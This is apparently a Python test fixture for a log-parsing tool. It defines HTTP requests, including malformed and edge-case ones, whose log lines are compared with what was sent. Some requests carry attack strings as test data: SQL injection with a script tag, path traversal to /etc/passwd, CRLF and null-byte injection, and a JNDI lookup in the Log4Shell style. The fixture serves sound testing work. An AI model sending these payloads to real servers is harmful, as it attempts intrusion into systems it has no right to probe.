"""The requests that the servers get: each with what it carries, so that what weir read of the log can be compared with it."""
from dataclasses import dataclass, field


@dataclass
class Request:
    """One request, byte for byte. `name` stands in its target, so that its line is found in any log."""
    name: str
    method: str = 'GET'
    target: bytes = b'/'
    version: bytes = b'HTTP/1.1'
    headers: dict = field(default_factory=dict)
    body: bytes = b''
    raw: bytes = b''                # instead of everything above
    is_request: bool = True         # False: a server that is right refuses it; its line need only be read

    def bytes(self):
        if self.raw:
            return self.raw
        headers = {'Host': b'www.example.com', **self.headers, 'Connection': b'close'}
        if self.body:
            headers['Content-Length'] = str(len(self.body)).encode()
        lines = [self.method.encode() + b' ' + self.target + b' ' + self.version]
        lines += [name.encode() + b': ' + value for name, value in headers.items() if value is not None]
        return b'\r\n'.join(lines) + b'\r\n\r\n' + self.body

    def header(self, name):
        return self.headers.get(name) or b''

    @property
    def path(self):
        return self.target.split(b'?', 1)[0]

    @property
    def query(self):
        return self.target.partition(b'?')[2]


TLS_HELLO = bytes.fromhex('16030100750100007103034f') + b'\x00' * 40


def target(name, rest=b''):
    return b'/' + name.encode() + rest


def requests():
    """All of them, in the order in which they are sent. The last is a plain one, so that a log that has it has them all."""
    plain = {'User-Agent': b'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101', 'Referer': b'https://example.org/shop?a=1'}
    made = []

    def add(name, rest=b'', headers=None, **rest_of):
        made.append(Request(name, target=target(name, rest), headers={**plain, **(headers or {})}, **rest_of))

    add('plain-1', b'/search?q=shoes&page=2')
    add('attack-1', b'/search?q=%27%20OR%201=1--%20&x=<script>')
    add('post-1', b'/login', method='POST', body=b'user=a&pass=b')
    add('head-1', b'/?x=1', method='HEAD')
    add('quotes-1', b'?q=1', {'User-Agent': b'an "agent" with \\ backslash and \'quotes\''})
    add('separators-1', b'?q=2', {'User-Agent': b'a, b | c - d [e] {f} #22 %22 $request :x; end'})
    add('shifted-1', b'?q=3', {'User-Agent': b'x" "y" 200 17 "z'})
    add('tab-1', b'?q=4', {'User-Agent': b'tab\there'})
    add('utf8-1', b'?q=5', {'User-Agent': 'Grüße €'.encode()})
    add('bytes-1', b'?q=6', {'User-Agent': b'raw \xff\xfe bytes'})
    add('no-agent-1', b'?q=7', {'User-Agent': None, 'Referer': None})
    add('empty-query-1', b'?')
    add('no-query-1', b'/a/b.html')
    add('question-1', b'?a=b?c=d&e=/../../etc/passwd')
    made.append(Request('encoded-1', target=b'/a/%2e%2e/encoded-1/%c0%af?q=%00%0d%0aX:1', headers=plain))
    add('jndi-1', b'?q=8', {'X-Forwarded-For': b'${jndi:ldap://x.example/a}', 'Cookie': b'lang=en; theme=${env:A}'})
    add('forwarded-1', b'?q=9', {'X-Forwarded-For': b'198.51.100.7, 10.1.2.3', 'X-Request-Id': b'abc-123'})
    add('user-1', b'?q=10', {'Authorization': b'Basic Ym9iOnNlY3JldA=='})
    add('long-1', b'?q=' + b'A' * 2000)
    add('http10-1', b'?q=11', version=b'HTTP/1.0')
    # What is no request to answer: servers refuse or even cut these, and log what they like.
    for name, raw in (('tls', TLS_HELLO), ('empty', b'\r\n\r\n'), ('connect', b'CONNECT shop.example:443 HTTP/1.1\r\nHost: shop.example:443\r\n\r\n'),
                      ('asterisk', b'OPTIONS * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
                      ('version', b'GET /version HTTP/9.9\r\nHost: a\r\n\r\n'), ('garbage', b'\x00\x01\x02\xff "\\ \r\n\r\n'),
                      ('quote-target', b'GET /quote"target?a="b" HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
                      ('spaces', b'GET /spaces in?the target=1 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
                      ('raw-utf8', b'GET /\xc3\xa4?q=\xc3\xa9\xff HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
                      ('method', b'GET"X /method HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
                      ('half', b'GET /half'), ('old', b'GET /old\r\n')):
        made.append(Request(name, raw=raw, is_request=False))
    add('fence-1', b'?q=12')
    return made
